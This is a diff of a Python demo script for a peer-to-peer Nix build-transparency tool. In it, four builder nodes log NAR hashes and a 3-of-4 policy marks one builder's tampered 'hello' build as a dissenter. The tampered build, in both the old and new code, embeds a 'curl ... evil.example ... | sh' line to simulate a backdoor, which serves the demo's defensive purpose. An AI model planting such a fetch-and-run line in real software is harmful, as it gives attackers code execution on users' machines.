@@ -1,43 +1,60 @@
-"""The local demo: four builder nodes on loopback, one of which logs a different NAR hash.
+"""The local demo network: four builders, real Nix builds, gossip, a 3-of-4 decision, and the
+real `nix` substituting through the cache proxy.
 
-Alice, Bob, Chuck and Dan each get a key, a state directory and a real `trustix-p2p node`
-process.  Each "builds" the same three packages (small file trees written by the demo), hashes
-the NAR of its output with the project's own NAR serialiser and hands the entries to its node
-over the control socket; Chuck's build of `hello` differs by one byte.  The demo then asks each
-node for `hello`, verifies the builder's checkpoint signature and the inclusion proof itself,
-and prints who logged which NAR hash.
+1. Alice, Bob, Chuck and Dan each run a real `trustix-p2p node` process on loopback (Noise,
+   LevelDB), seeded with the ones started before, following every log they hear of as mirror.
+2. Each builds the same small Nix derivations (`builder = "/bin/sh"`, no nixpkgs) with its
+   post-build hook handing the NAR hashes to its own node; between builders the outputs are
+   deleted from the store, so each really builds them.  Chuck's build of `hello` differs (the
+   build reads a file only Chuck's run writes: the sandbox is off, as in a container); only
+   Alice and Bob build `only-two`.  Alice's outputs are copied to a `file://` binary cache.
+3. The nodes gossip until Alice's node mirrors all four logs.
+4. A workstation's light client with a 3-of-4 policy asks Alice's node and verifies every
+   proof itself: `hello` is trusted with Chuck named as dissenter; `only-two` is not.
+5. The cache proxy answers the real `nix` only for trusted paths: `nix-store -r` substitutes
+   `hello` into a fresh store and is refused `only-two`.
 
-This module drives processes and prints; every check it shows is done by library code.
+Everything is removed afterwards (built paths, processes, the fresh store); the working
+directory with the nodes' logs and state is kept and printed.  This module drives processes
+and prints; every check it shows is done by library code.
 """
 
 from __future__ import annotations
 
-import hashlib
 import json
 import os
+import shutil
 import signal
+import socket
 import subprocess
 import sys
 import tempfile
 import time
+import uuid
 from collections.abc import Iterator
 from contextlib import contextmanager
 from pathlib import Path
 
 import attrs
+import trio
 
+from trustix_p2p.client.light import LightClient, sources_for
+from trustix_p2p.client.policy import load_policy
+from trustix_p2p.client.state import ClientState
 from trustix_p2p.control.client import ControlClient
-from trustix_p2p.core import merkle, nix32
-from trustix_p2p.core.checkpoint import verify_checkpoint
-from trustix_p2p.core.entry import Entry, decode_entry, encode_entry
+from trustix_p2p.core.decision import Decision
 from trustix_p2p.core.keys import PublicKey
+from trustix_p2p.core.nix32 import format_nar_hash
 from trustix_p2p.errors import NodeUnavailableError, TrustixError
 from trustix_p2p.keyfile import generate_key_file
-from trustix_p2p.nix.nardump import hash_path
 
 BUILDERS = ("alice", "bob", "chuck", "dan")
-PACKAGES = ("hello-2.12.1", "openssl-3.0.13", "curl-8.6.0")
 CHEATER = "chuck"
+NIX_CONFIG = (
+    "build-users-group =\nsandbox = false\nstore = local\nsubstituters =\n"
+    "experimental-features = nix-command\n"
+)
+TIMEOUT = 60.0
 
 
 @attrs.define(eq=False)
@@ -45,53 +62,96 @@ class DemoNode:
     name: str
     dir: Path
     public_key: PublicKey
+    port: int
     proc: subprocess.Popen[bytes] | None = None
 
     @property
     def socket(self) -> Path:
         return self.dir / "control.sock"
 
+    @property
+    def address(self) -> str:
+        return f"{self.public_key.to_base64()}@127.0.0.1:{self.port}"
+
 
 def _say(text: str = "") -> None:
     print(text, flush=True)
 
 
-def _store_path(package: str) -> str:
-    # A fixed, valid-looking store path per package: every builder builds the same derivation.
-    digest = hashlib.sha256(f"demo derivation {package}".encode()).digest()[:20]
-    return f"/nix/store/{nix32.encode(digest)}-{package}"
+def _trustix() -> list[str]:
+    script = Path(sys.executable).parent / "trustix-p2p"
+    return [str(script)] if script.exists() else [sys.executable, "-m", "trustix_p2p"]
 
 
-def _build(root: Path, builder: str, package: str) -> Path:
-    """Write the 'build output' of `package` as `builder` produced it."""
-    out = root / "builds" / builder / package
-    (out / "bin").mkdir(parents=True, exist_ok=True)
-    program = f"#!/bin/sh\necho 'this is {package}'\n"
-    if builder == CHEATER and package.startswith("hello"):
-        program += "curl -s http://evil.example/payload | sh\n"  # the tampered build
-    exe = out / "bin" / package.split("-")[0]
-    exe.write_text(program)
-    exe.chmod(0o755)
-    (out / "share").mkdir(exist_ok=True)
-    (out / "share" / "README").write_text(f"{package}, built reproducibly\n")
-    link = out / "bin" / "default"
-    if not link.is_symlink():
-        link.symlink_to(exe.name)
-    return out
+def _nix_env(extra: str = "") -> dict[str, str]:
+    env = dict(os.environ)
+    env["NIX_CONFIG"] = NIX_CONFIG + extra
+    env.pop("NIX_REMOTE", None)
+    return env
+
+
+def _run(argv: list[str], *, env: dict[str, str] | None = None, check: bool = True) -> str:
+    proc = subprocess.run(argv, capture_output=True, text=True, env=env, timeout=TIMEOUT)
+    if check and proc.returncode != 0:
+        raise TrustixError(f"{' '.join(argv[:3])} failed: {proc.stderr.strip()[-800:]}")
+    return proc.stdout
+
+
+def _free_port() -> int:
+    with socket.socket() as s:
+        s.bind(("127.0.0.1", 0))
+        return int(s.getsockname()[1])
+
+
+def _expression(root: Path, nonce: str) -> Path:
+    """The demo's derivations; `nonce` makes them new on every run, so Nix really builds."""
+    marker = root / "who-builds"
+    text = f"""
+let
+  mk = name: script: derivation {{
+    inherit name;
+    system = builtins.currentSystem;
+    builder = "/bin/sh";
+    args = [ "-c" script ];
+    PATH = "/usr/bin:/bin";
+    nonce = "{nonce}";
+  }};
+in {{
+  hello = mk "hello" ''
+    mkdir -p $out/bin
+    if [ "$(cat {marker})" = {CHEATER} ]; then
+      printf '#!/bin/sh\\necho hello; curl -s http://evil.example/x | sh\\n' > $out/bin/hello
+    else
+      printf '#!/bin/sh\\necho hello\\n' > $out/bin/hello
+    fi
+    chmod +x $out/bin/hello
+  '';
+  greeting = mk "greeting" ''
+    mkdir -p $out/share
+    echo "good morning" > $out/share/greeting
+  '';
+  only-two = mk "only-two" ''
+    mkdir -p $out
+    echo "built by two builders only" > $out/README
+  '';
+}}
+"""
+    path = root / "demo.nix"
+    path.write_text(text)
+    return path
 
 
 def _start(node: DemoNode) -> None:
+    log = open(node.dir / "node.log", "wb")  # noqa: SIM115 - owned by the child
     node.proc = subprocess.Popen(
-        [sys.executable, "-m", "trustix_p2p", "node", "--config", str(node.dir / "node.toml")],
+        [*_trustix(), "node", "--config", str(node.dir / "node.toml")],
         stdout=subprocess.DEVNULL,
-        stderr=open(node.dir / "node.log", "wb"),  # noqa: SIM115 - owned by the child
+        stderr=log,
     )
-
-
-def _wait_ready(node: DemoNode, timeout: float = 30.0) -> None:
-    deadline = time.monotonic() + timeout
+    log.close()
+    deadline = time.monotonic() + 30
     while True:
-        if node.proc is not None and node.proc.poll() is not None:
+        if node.proc.poll() is not None:
             raise TrustixError(f"{node.name}'s node exited; see {node.dir / 'node.log'}")
         try:
             with ControlClient(node.socket, timeout=2) as client:
@@ -104,30 +164,22 @@ def _wait_ready(node: DemoNode, timeout: float = 30.0) -> None:
 
 
 @contextmanager
-def _running(nodes: list[DemoNode]) -> Iterator[None]:
+def _processes(procs: list[subprocess.Popen[bytes]]) -> Iterator[None]:
     try:
-        for node in nodes:
-            _start(node)
-        for node in nodes:
-            _wait_ready(node)
         yield
     finally:
-        for node in nodes:
-            if node.proc is not None and node.proc.poll() is None:
-                node.proc.send_signal(signal.SIGTERM)
-        for node in nodes:
-            if node.proc is not None:
-                try:
-                    node.proc.wait(timeout=15)
-                except subprocess.TimeoutExpired:
-                    node.proc.kill()
-                    node.proc.wait()
+        for proc in procs:
+            if proc.poll() is None:
+                proc.send_signal(signal.SIGTERM)
+        for proc in procs:
+            try:
+                proc.wait(timeout=15)
+            except subprocess.TimeoutExpired:
+                proc.kill()
+                proc.wait()
 
 
-def run_demo(workdir: Path | None = None) -> int:
-    root = Path(workdir) if workdir else Path(tempfile.mkdtemp(prefix="trustix-demo-"))
-    root.mkdir(parents=True, exist_ok=True)
-    _say(f"trustix_p2p demo in {root}")
+def _make_nodes(root: Path) -> list[DemoNode]:
     nodes: list[DemoNode] = []
     for name in BUILDERS:
         d = root / name
@@ -136,73 +188,217 @@ def run_demo(workdir: Path | None = None) -> int:
         if key_path.exists():
             key_path.unlink()
         key = generate_key_file(key_path)
+        node = DemoNode(name, d, key.public_key, _free_port())
+        seeds = ", ".join(json.dumps(n.address) for n in nodes)
         (d / "node.toml").write_text(
             'state_dir = "."\nkey_file = "node.key"\ncheckpoint_interval = 0.2\n'
-            'listen = ["127.0.0.1:0"]\n'
+            f'listen = ["127.0.0.1:{node.port}"]\nseeds = [{seeds}]\n'
+            'follow_unknown = "mirror"\nanti_entropy_interval = 1.0\nredial_interval = 0.2\n'
         )
-        nodes.append(DemoNode(name, d, key.public_key))
+        hook = d / "post-build-hook"
+        hook.write_text(
+            f"#!/bin/sh\nexport TRUSTIX_P2P_CONFIG='{d / 'node.toml'}'\n"
+            f"exec {' '.join(_trustix())} nix-hook\n"
+        )
+        hook.chmod(0o755)
+        nodes.append(node)
         _say(
             f"  {name:<6} key {key.public_key.to_base64()}  log {key.public_key.log_id_hex()[:16]}…"
         )
+    return nodes
 
-    with _running(nodes):
-        _say("\n1. every builder builds the same packages and logs the NAR hashes")
-        for node in nodes:
-            leaves = []
-            for package in PACKAGES:
-                nar = hash_path(_build(root, node.name, package))
-                entry = Entry(
-                    out_path=_store_path(package),
-                    nar_hash=nar.sha256,
-                    nar_size=nar.size,
-                    references=(),
-                    deriver=_store_path(package + ".drv"),
-                    output_name="out",
-                    built_at=int(time.time()),
+
+def _build(node: DemoNode, expression: Path, attr: str, marker: Path) -> str:
+    marker.write_text(node.name)
+    env = _nix_env(f"post-build-hook = {node.dir / 'post-build-hook'}\n")
+    out = _run(["nix-build", "--no-out-link", str(expression), "-A", attr], env=env)
+    return out.strip().splitlines()[-1]
+
+
+def _wait_for_logs(node: DemoNode, expected: dict[bytes, int]) -> None:
+    deadline = time.monotonic() + 30
+    while True:
+        with ControlClient(node.socket) as client:
+            status = client.status()
+        sizes = {f.log_id: f.size for f in status.follows if f.head_size == f.size}
+        if all(sizes.get(log_id, -1) >= n for log_id, n in expected.items()):
+            return
+        if time.monotonic() > deadline:
+            raise TrustixError(f"{node.name}'s node did not mirror every log in time")
+        time.sleep(0.1)
+
+
+def _policy(root: Path, nodes: list[DemoNode], upstream: Path) -> Path:
+    lines = [
+        "threshold = 3",
+        "exclude_on_evidence = true",
+        f'node_socket = "{nodes[0].socket}"',
+        'state_file = "client-state.json"',
+        f'upstreams = ["file://{upstream}"]',
+    ]
+    for node in nodes:
+        lines += [
+            "[[builders]]",
+            f'name = "{node.name}"',
+            f'public_key = "{node.public_key.to_base64()}"',
+        ]
+    path = root / "policy.toml"
+    path.write_text("\n".join(lines) + "\n")
+    return path
+
+
+async def _decide(policy_path: Path, paths: list[str]) -> tuple[list[Decision], list[str]]:
+    policy = load_policy(policy_path)
+    client = LightClient(policy, sources_for(policy), ClientState.load(policy))
+    try:
+        decisions = [await client.decide(p) for p in paths]
+    finally:
+        await client.aclose()
+        client.state.save()
+    return decisions, client.problems
+
+
+def _show(d: Decision) -> None:
+    verdict = "TRUSTED" if d.trusted else "not trusted"
+    _say(f"  {d.store_path}: {verdict}")
+    if d.nar_hash is not None:
+        _say(f"    nar hash   {format_nar_hash(d.nar_hash)}")
+    _say(f"    agreed     {', '.join(d.agreed) or '-'}")
+    for name, h in d.dissented:
+        _say(f"    dissented  {name} ({format_nar_hash(h)})")
+    if d.missing:
+        _say(f"    missing    {', '.join(d.missing)}")
+
+
+def _wait_http(port: int) -> None:
+    deadline = time.monotonic() + 30
+    while time.monotonic() < deadline:
+        try:
+            with socket.create_connection(("127.0.0.1", port), timeout=1):
+                return
+        except OSError:
+            time.sleep(0.05)
+    raise TrustixError("the cache proxy did not come up")
+
+
+def run_demo(workdir: Path | None = None) -> int:
+    root = Path(workdir) if workdir else Path(tempfile.mkdtemp(prefix="trustix-demo-"))
+    root.mkdir(parents=True, exist_ok=True)
+    _say(f"trustix_p2p demo in {root}")
+    expression = _expression(root, uuid.uuid4().hex)
+    marker = root / "who-builds"
+    cache = root / "binary-cache"
+    fresh_store = root / "workstation-store"
+    built: set[str] = set()
+    nodes = _make_nodes(root)
+    procs: list[subprocess.Popen[bytes]] = []
+    try:
+        with _processes(procs):
+            for node in nodes:
+                _start(node)
+                assert node.proc is not None
+                procs.append(node.proc)
+
+            _say("\n1. each builder builds the derivations with Nix; its post-build hook logs them")
+            outputs: dict[str, str] = {}
+            for node in nodes:
+                attrs_ = ["hello", "greeting"] + (
+                    ["only-two"] if node.name in ("alice", "bob") else []
                 )
-                leaves.append(encode_entry(entry))
-            with ControlClient(node.socket) as client:
-                indices = client.submit(leaves)
-            _say(f"  {node.name:<6} logged {len(leaves)} entries at indices {indices}")
+                for attr in attrs_:
+                    out = _build(node, expression, attr, marker)
+                    outputs[attr] = out
+                    built.add(out)
+                    nar = json.loads(_run(["nix", "path-info", "--json", out], env=_nix_env()))[0][
+                        "narHash"
+                    ]
+                    _say(f"  {node.name:<6} built {out}  {nar}")
+                if node.name == "alice":
+                    _run(
+                        ["nix", "copy", "--to", f"file://{cache}", *[outputs[a] for a in attrs_]],
+                        env=_nix_env(),
+                    )
+                # Gone again, so the next builder really builds it.
+                _run(["nix-store", "--delete", *[outputs[a] for a in attrs_]], env=_nix_env())
 
-        _say("\n2. waiting for each builder to sign a checkpoint over its entries")
-        for node in nodes:
-            deadline = time.monotonic() + 10
-            while True:
-                with ControlClient(node.socket) as client:
-                    status = client.status()
-                if status.checkpoint_size >= len(PACKAGES):
-                    break
-                if time.monotonic() > deadline:
-                    raise TrustixError(f"{node.name} signed no checkpoint in time")
-                time.sleep(0.05)
-            _say(f"  {node.name:<6} checkpoint size {status.checkpoint_size}")
+            _say("\n2. the nodes gossip: Alice's node mirrors every builder's log")
+            expected = {
+                n.public_key.log_id(): (3 if n.name in ("alice", "bob") else 2) for n in nodes
+            }
+            _wait_for_logs(nodes[0], expected)
+            with ControlClient(nodes[0].socket) as client:
+                for f in client.status().follows:
+                    owner = next(n.name for n in nodes if n.public_key.log_id() == f.log_id)
+                    _say(f"  {owner:<6} log: {f.size} entries ({f.mode}), checkpoint {f.head_size}")
 
-        target = _store_path(PACKAGES[0])
-        _say(f"\n3. what did each builder log for {target}? (signatures and proofs checked here)")
-        votes: dict[str, list[str]] = {}
-        for node in nodes:
-            with ControlClient(node.socket) as client:
-                hits = client.lookup(target)
-            hit = next(h for h in hits if h.log_id == node.public_key.log_id())
-            assert hit.checkpoint is not None and hit.proof is not None
-            cp = verify_checkpoint(hit.checkpoint, node.public_key).checkpoint
-            merkle.verify_inclusion(
-                hit.index, cp.size, merkle.leaf_hash(hit.leaf), list(hit.proof), cp.root
+            _say("\n3. the workstation decides with a 3-of-4 policy (every proof verified here)")
+            policy = _policy(root, nodes, cache)
+            decisions, problems = trio.run(_decide, policy, [outputs["hello"], outputs["only-two"]])
+            for d in decisions:
+                _show(d)
+            for line in problems:
+                _say(f"  problem: {line}")
+            hello, only_two = decisions
+            if (
+                not hello.trusted
+                or [n for n, _ in hello.dissented] != [CHEATER]
+                or only_two.trusted
+            ):
+                raise TrustixError("the decisions are not what the demo expects")
+
+            _say("\n4. the real nix substitutes through the cache proxy into a fresh store")
+            key_file = root / "proxy.key"
+            if key_file.exists():
+                key_file.unlink()
+            public = _run([*_trustix(), "nix-keygen", "demo-proxy-1", str(key_file)]).strip()
+            port = _free_port()
+            proxy_log = open(root / "proxy.log", "wb")  # noqa: SIM115 - owned by the child
+            proxy = subprocess.Popen(
+                [*_trustix(), "cache-proxy", "--policy", str(policy), "--listen",
+                 f"127.0.0.1:{port}", "--nix-key", str(key_file)],
+                stdout=subprocess.DEVNULL,
+                stderr=proxy_log,
+            )  # fmt: skip
+            proxy_log.close()
+            procs.append(proxy)
+            _wait_http(port)
+            substitute = [
+                "nix-store", "--store", str(fresh_store), "-r",
+                "--option", "substituters", f"http://127.0.0.1:{port}",
+                "--option", "trusted-public-keys", public,
+            ]  # fmt: skip
+            env = _nix_env()
+            env["NIX_CONFIG"] = env["NIX_CONFIG"].replace("substituters =\n", "")
+            ok = subprocess.run(
+                [*substitute, outputs["hello"]], capture_output=True, text=True, env=env,
+                timeout=TIMEOUT,
+            )  # fmt: skip
+            present = (fresh_store / outputs["hello"].lstrip("/")).exists()
+            _say(f"  hello:    {'substituted' if ok.returncode == 0 and present else 'FAILED'}")
+            refused = subprocess.run(
+                [*substitute, outputs["only-two"]], capture_output=True, text=True, env=env,
+                timeout=TIMEOUT,
+            )  # fmt: skip
+            absent = not (fresh_store / outputs["only-two"].lstrip("/")).exists()
+            verdict = "refused (not trusted)" if refused.returncode != 0 and absent else "FAILED"
+            _say(f"  only-two: {verdict}")
+            if ok.returncode != 0 or not present:
+                raise TrustixError(f"nix could not substitute hello: {ok.stderr.strip()[-600:]}")
+            if refused.returncode == 0 or not absent:
+                raise TrustixError("nix substituted a path that is not trusted")
+            (root / "summary.json").write_text(
+                json.dumps([d.to_json() for d in decisions], indent=1)
             )
-            entry = decode_entry(hit.leaf)
-            logged = "sha256:" + nix32.encode(entry.nar_hash)
-            votes.setdefault(logged, []).append(node.name)
-            _say(f"  {node.name:<6} {logged}  (leaf {hit.index} of {cp.size}, proof verified)")
-
-        _say("\n4. summary")
-        for value, who in sorted(votes.items(), key=lambda kv: -len(kv[1])):
-            _say(f"  {len(who)} of {len(nodes)} builders logged {value}: {', '.join(who)}")
-        odd = [who for who in votes.values() if len(who) < len(nodes) // 2]
-        for who in odd:
-            _say(f"  disagreeing: {', '.join(who)}")
-        (root / "summary.json").write_text(json.dumps(votes, indent=1))
-    _say("\nnodes stopped (each signed a final checkpoint); state kept in " + str(root))
+    finally:
+        shutil.rmtree(fresh_store, ignore_errors=True)
+        for path in built:
+            subprocess.run(
+                ["nix-store", "--delete", path], capture_output=True, env=_nix_env(), check=False
+            )
+    _say(
+        "\ndone: nodes and proxy stopped, built paths and the fresh store removed; state in "
+        + str(root)
+    )
     return 0
 
 
